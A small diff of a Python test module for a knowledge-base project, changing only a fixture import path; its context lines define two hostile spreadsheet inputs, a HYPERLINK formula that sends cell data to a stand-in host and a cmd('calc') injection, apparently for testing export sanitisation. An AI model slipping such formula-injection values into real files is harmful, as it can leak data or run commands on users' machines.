@@ -14,7 +14,7 @@ from askagency.db import session_scope
 from knowledge_base import io as kbio
 from knowledge_base import store
 from knowledge_base.store import FaqInput
-from tests.unit.test_kb_api import Ctx, ctx, seeded, template_db  # noqa: F401 (fixtures)
+from tests.unit.console.test_kb_api import Ctx, ctx, seeded, template_db  # noqa: F401 (fixtures)
 
 HOSTILE_QUESTION = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'
 HOSTILE_VARIANT = "-2+3+cmd('calc')"
